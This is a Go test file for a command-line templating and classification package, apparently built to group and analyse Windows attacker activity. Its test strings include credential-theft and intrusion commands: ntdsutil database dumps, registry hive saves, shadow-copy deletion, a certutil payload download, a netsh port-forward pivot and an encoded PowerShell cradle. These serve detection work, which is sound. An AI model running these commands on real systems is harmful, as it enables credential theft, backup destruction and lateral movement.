package analytics

import (
	"strings"
	"testing"
)

func TestTemplate(t *testing.T) {
	tests := []struct {
		tool, cmd, want string
	}{
		{"ntdsutil", `ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\Pro" q q`, `ntdsutil "<s>" ifm "<s>" q q`},
		{"ntdsutil", `ntdsutil “ac i ntds” ifm “create full C:\Windows\Temp\tmp” q q`, `ntdsutil "<s>" ifm "<s>" q q`},
		{"cmd", `cmd.exe /Q /c whoami /all 1> \\127.0.0.1\ADMIN$\__1705312345.1234 2>&1`, `cmd /q /c whoami /all <n>> <path> <n>>&<n>`},
		{"cmd", `"C:\Windows\system32\cmd.exe" /Q   /c   hostname`, `cmd /q /c hostname`},
		{"netsh", `netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=10.1.2.3 connectport=8443 protocol=tcp`,
			`netsh interface portproxy add v4tov4 listenaddress=<n>.<n>.<n>.<n> listenport=<n> connectaddress=<n>.<n>.<n>.<n> connectport=<n> protocol=tcp`},
		{"reg", `reg save HKLM\SYSTEM C:\Windows\Temp\sys.hiv`, `reg save hklm\system <path>`},
		{"wmic", `wmic /node:10.0.0.5 process call create "cmd.exe /c mkdir C:\x"`, `wmic /node:<n>.<n>.<n>.<n> process call create "<s>"`},
		{"powershell", `powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `powershell -nop -enc <b64>`},
		{"vssadmin", `vssadmin delete shadows /shadow={AB12CD34-0000-1111-2222-333344445555} /quiet`, `vssadmin delete shadows /shadow=<guid> /quiet`},
		{"certutil", `certutil -urlcache -split -f http://198.51.100.7:8080/a.exe C:\Users\Public\a.exe`, `certutil -urlcache -split -f <path> <path>`},
		{"ipconfig", `ipconfig`, `ipconfig`},
		{"wmic", `wmic path win32_logicaldisk get caption`, `wmic path win32_logicaldisk get caption`},
		{"sc", `sc start w32time task_started`, `sc start w32time task_started`},
		{"rar", `C:\Users\Public\r.exe a -hpS3cret C:\Users\Public\out.rar C:\Windows\Temp\Pro`, `rar a -hps3cret <path> <path>`},
	}
	for _, tt := range tests {
		if got := Template(tt.tool, tt.cmd); got != tt.want {
			t.Errorf("Template(%q)\n got %q\nwant %q", tt.cmd, got, tt.want)
		}
	}
}

// TestTemplateSameForm: runs that differ only in what changes every time
// are one form.
func TestTemplateSameForm(t *testing.T) {
	same := [][2]string{
		{`ping -n 1 -w 100 10.0.0.1`, `ping -n 1 -w 100 192.168.77.254`},
		{`cmd.exe /Q /c dir 1> \\127.0.0.1\ADMIN$\__1700000000.11 2>&1`, `cmd.exe /Q /c dir 1> \\127.0.0.1\ADMIN$\__1800000000.99 2>&1`},
		{`tasklist /fi "PID eq 4242"`, `tasklist /fi "PID eq 17"`},
	}
	for _, p := range same {
		a, b := Template("x", p[0]), Template("x", p[1])
		if a != b {
			t.Errorf("%q and %q give different forms: %q, %q", p[0], p[1], a, b)
		}
	}
}

func TestTemplateBounded(t *testing.T) {
	long := make([]byte, 100_000)
	for i := range long {
		long[i] = 'a' + byte(i%7)
		if i%9 == 0 {
			long[i] = ' '
		}
	}
	if got := Template("x", string(long)); len(got) > maxTemplate {
		t.Errorf("template of %d bytes, cap %d", len(got), maxTemplate)
	}
	// Unbalanced quotes and lone typographic quotes end the string.
	for _, s := range []string{`a "b`, "a \u201cb", `"`, `'`, "\u201c", ""} {
		_ = Template("x", s)
	}
}

func TestToolName(t *testing.T) {
	tests := map[string]string{
		`C:\Windows\System32\wbem\WMIC.exe`: "wmic",
		`C:\Windows\System32\net1.exe`:      "net",
		`ntdsutil`:                          "ntdsutil",
		`C:\Program Files\7-Zip\7z.exe`:     "7z",
		`C:\Windows\explorer.exe`:           "",
		`C:\a\averyveryverylongname.exe`:    "",
		``:                                  "",
	}
	for in, want := range tests {
		if got := toolName(in); got != want {
			t.Errorf("toolName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestFmtCount(t *testing.T) {
	for n, want := range map[int]string{0: "0", 999: "999", 1000: "1,000", 3561: "3,561", -1234567: "-1,234,567",
		-9223372036854775808: "-9,223,372,036,854,775,808"} {
		if got := fmtCount(n); got != want {
			t.Errorf("fmtCount(%d) = %q, want %q", n, got, want)
		}
	}
}

// FuzzCommandLine: templates and classification of any command line are
// bounded and never panic.
func FuzzCommandLine(f *testing.F) {
	for _, s := range []string{
		`ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\Pro" q q`,
		`cmd.exe /Q /c whoami /all 1> \\127.0.0.1\ADMIN$\__1705312345.1234 2>&1`,
		`cmd /c copy \\DC01\c$\Users\Public\x.7z C:\Temp\ & rd /s /q C:\Windows\Temp\x`,
		"ntdsutil \u201cac i ntds\u201d ifm", `"`, `\\`, `cmd /c`, `/`, "",
		`powershell copy-item -path c:\x -destination \\h\c$\y`, `robocopy \\ \\`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if tmpl := Template("cmd", s); len(tmpl) > maxTemplate {
			t.Fatalf("template of %d bytes", len(tmpl))
		}
		lower := strings.ToLower(s)
		for _, tool := range []string{"cmd", "powershell", "copy", "robocopy", "del", "net", "reg", "7z", "curl"} {
			si := classify(tool, lower, `c:\w`)
			_ = related(si.offPath, si.paths)
			_, _ = cleans(si.clean, si.staged)
		}
	})
}
